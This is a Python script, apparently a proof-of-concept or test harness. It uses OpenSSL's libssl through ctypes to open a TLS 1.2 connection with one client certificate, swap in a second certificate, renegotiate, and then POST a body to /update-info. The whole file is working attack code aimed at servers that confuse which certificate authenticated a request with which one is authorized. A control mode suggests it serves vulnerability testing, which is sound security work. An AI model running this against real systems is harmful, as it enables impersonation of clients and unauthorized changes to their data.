#!/usr/bin/env python3
# A TLS 1.2 client on OpenSSL's libssl (via ctypes) that handshakes with one client certificate, renegotiates
# with another, then POSTs a body: the attack that splits "which certificate" from "authorized".
# usage: renegotiating-client.py HOST PORT FIRST_CERT FIRST_KEY SECOND_CERT SECOND_KEY BODY_FILE
# SECOND_CERT "-" posts without renegotiating (the control). Prints "renegotiated" or
# "renegotiation refused: ..." on stderr, the raw HTTP response on stdout.
import ctypes, ctypes.util, socket, sys

ssl = ctypes.CDLL(ctypes.util.find_library('ssl') or 'libssl.so.3')
ssl.TLS_client_method.restype = ctypes.c_void_p
ssl.SSL_CTX_new.restype = ctypes.c_void_p
ssl.SSL_CTX_new.argtypes = [ctypes.c_void_p]
ssl.SSL_CTX_ctrl.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_long, ctypes.c_void_p]
ssl.SSL_new.restype = ctypes.c_void_p
ssl.SSL_new.argtypes = [ctypes.c_void_p]
for name in ('SSL_connect', 'SSL_renegotiate', 'SSL_do_handshake', 'SSL_free'):
    getattr(ssl, name).argtypes = [ctypes.c_void_p]
ssl.SSL_set_fd.argtypes = [ctypes.c_void_p, ctypes.c_int]
ssl.SSL_use_certificate_file.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_int]
ssl.SSL_use_PrivateKey_file.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_int]
ssl.SSL_write.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_int]
ssl.SSL_read.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_int]
ssl.SSL_get_error.argtypes = [ctypes.c_void_p, ctypes.c_int]
crypto = ctypes.CDLL(ctypes.util.find_library('crypto') or 'libcrypto.so.3')
crypto.ERR_get_error.restype = ctypes.c_ulong
crypto.ERR_error_string.restype = ctypes.c_char_p
crypto.ERR_error_string.argtypes = [ctypes.c_ulong, ctypes.c_char_p]

PEM = 1
SSL_CTRL_SET_MAX_PROTO_VERSION = 124
TLS1_2_VERSION = 0x0303


def openssl_error():
    code = crypto.ERR_get_error()
    return crypto.ERR_error_string(code, None).decode() if code else 'no OpenSSL error queued'


host, port, cert1, key1, cert2, key2, body_file = sys.argv[1:8]
body = open(body_file, 'rb').read()
ctx = ssl.SSL_CTX_new(ssl.TLS_client_method())
ssl.SSL_CTX_ctrl(ctx, SSL_CTRL_SET_MAX_PROTO_VERSION, TLS1_2_VERSION, None)  # renegotiation exists up to TLS 1.2
sock = socket.create_connection((host, int(port)))
conn = ssl.SSL_new(ctx)
ssl.SSL_set_fd(conn, sock.fileno())
if ssl.SSL_use_certificate_file(conn, cert1.encode(), PEM) != 1 or ssl.SSL_use_PrivateKey_file(conn, key1.encode(), PEM) != 1:
    sys.exit('cannot load the first identity: ' + openssl_error())
if ssl.SSL_connect(conn) != 1:
    sys.exit('handshake failed: ' + openssl_error())
# Swap the identity on this connection, then ask for a new handshake on it.
if cert2 == '-':
    pass
elif ssl.SSL_use_certificate_file(conn, cert2.encode(), PEM) != 1 or ssl.SSL_use_PrivateKey_file(conn, key2.encode(), PEM) != 1:
    sys.exit('cannot load the second identity: ' + openssl_error())
elif ssl.SSL_renegotiate(conn) == 1 and ssl.SSL_do_handshake(conn) == 1:
    sys.stderr.write('renegotiated\n')
else:
    sys.stderr.write('renegotiation refused: ' + openssl_error() + '\n')
request = (b'POST /update-info HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nConnection: close\r\n'
           b'Content-Length: ' + str(len(body)).encode() + b'\r\n\r\n' + body)
if ssl.SSL_write(conn, request, len(request)) <= 0:
    sys.stderr.write('write failed: ' + openssl_error() + '\n')
    sys.exit(0)
buf = ctypes.create_string_buffer(65536)
out = b''
while True:
    n = ssl.SSL_read(conn, buf, len(buf))
    if n <= 0:
        break
    out += buf.raw[:n]
sys.stdout.buffer.write(out)
